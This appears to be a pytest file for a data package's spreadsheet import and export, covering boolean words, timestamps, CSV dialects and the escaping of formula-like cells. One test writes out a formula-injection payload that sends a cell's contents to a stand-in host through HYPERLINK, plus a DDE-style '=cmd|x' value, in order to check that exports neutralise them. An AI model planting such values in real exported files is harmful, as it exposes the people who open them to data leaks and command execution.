"""What spreadsheets make of a table: yes and no, times, and text that looks like a formula."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import steelyard as sy
from steelyard.exchange import export_file, import_file, write_table
from steelyard.exchange.cells import harmless, moment, restored, truth
from steelyard.study import Study
from tests.exchange.files import make_study, write


@pytest.mark.parametrize("word", ["true", "TRUE", "True", "1", "1.0", "yes", " Yes ", "WAHR", True, 1, 1.0])
def test_words_for_yes(word: Any) -> None:
    assert truth(word, "reserved") is True


@pytest.mark.parametrize(
    "word", ["false", "FALSE", "0", "0.0", "no", "", " ", "FALSCH", None, False, 0, float("nan")]
)
def test_words_for_no(word: Any) -> None:
    assert truth(word, "reserved") is False


@pytest.mark.parametrize(
    ("cell", "seconds"),
    [
        ("1700000000.25", 1700000000.25),
        ("1700000000,25", 1700000000.25),
        ("2023-11-14T22:13:20Z", 1700000000.0),
        ("2023-11-14 23:13:20+01:00", 1700000000.0),
        ("2023-11-14 22:13:20", 1700000000.0),
        ("2023-11-14", 1699920000.0),
        ("", None),
        ("nan", None),
        (None, None),
        (17, 17.0),
    ],
)
def test_times_as_seconds_or_dates(cell: Any, seconds: float | None) -> None:
    assert moment(cell, "answered_at") == seconds


def test_reserved_survives_a_spreadsheet(study: Study, tmp_path: Path) -> None:
    rows = [
        "left,right,answer,reserved",
        "i1.png,i2.png,left,TRUE",
        "i3.png,i4.png,left,1",
        "i5.png,i6.png,left,FALSE",
    ]
    import_file(study, write(tmp_path / "a.csv", rows))
    assert [p.reserved for p in study.store.pairs.all()] == [True, True, False]


@pytest.mark.parametrize(
    "content",
    [
        "\ufeffleft,right,answer,note\ni1.png,i2.png,left,gut\n".encode(),
        b"left;right;answer;note\r\ni1.png;i2.png;left;gut\r\n;;;\r\n\r\n",
        b"left\tright\tanswer\tnote\ni1.png\ti2.png\tleft\tgut\n",
        b"sep=;\nleft;right;answer;note\ni1.png;i2.png;left;gut\n",
        b" Left , RIGHT ,Answer,Note,,\ni1.png,i2.png,Left,gut,,\n,,,,,\n",
        "left\tright\tanswer\tnote\r\ni1.png\ti2.png\tleft\tgut\r\n".encode("utf-16"),
        b",left,right,answer,note\n0,i1.png,i2.png,1,gut\n",
    ],
    ids=["mark", "semicolon", "tab", "sep line", "case and spaces", "UTF-16", "row numbers"],
)
def test_files_as_spreadsheets_save_them(study: Study, tmp_path: Path, content: bytes) -> None:
    (tmp_path / "a.csv").write_bytes(content)
    assert import_file(study, tmp_path / "a.csv").added == 1
    [one] = study.store.answers.log()
    assert (one.answer, one.note) == (sy.Answer.LEFT, "gut")


@given(st.text(max_size=20))
def test_every_text_is_restored(text: str) -> None:
    cell = harmless(text)
    assert restored(cell) == text
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_no_cell_of_an_export_is_a_formula(study: Study, tmp_path: Path) -> None:
    attack = '=HYPERLINK("http://x/?"&A1,"+")'
    for pair, text in zip(study.ask(5), (attack, "+1", "-1", "@SUM(A1)", "\t=1"), strict=True):
        study.tell(pair, sy.Answer.LEFT, note=text, annotator="=cmd|x" if text == attack else "kt")
    export_file(study, tmp_path / "a.csv")
    table = pd.read_csv(tmp_path / "a.csv", dtype=str, keep_default_na=False)
    assert not table.map(lambda cell: cell.startswith(("=", "+", "-", "@", "\t", "\r"))).any().any()
    with make_study(tmp_path / "two") as other:
        import_file(other, tmp_path / "a.csv")
        assert [(c.note, c.annotator) for c in other.store.answers.log()] == [
            (c.note, c.annotator) for c in study.store.answers.log()
        ]


def test_tables_of_scores_hold_no_formula_and_keep_their_numbers(tmp_path: Path) -> None:
    write_table(pd.DataFrame({"path": ["=1.png", "'a.png"], "score": [-1.5, 2.0]}), tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_text() == "path,score\n'=1.png,-1.5\n''a.png,2.0\n"
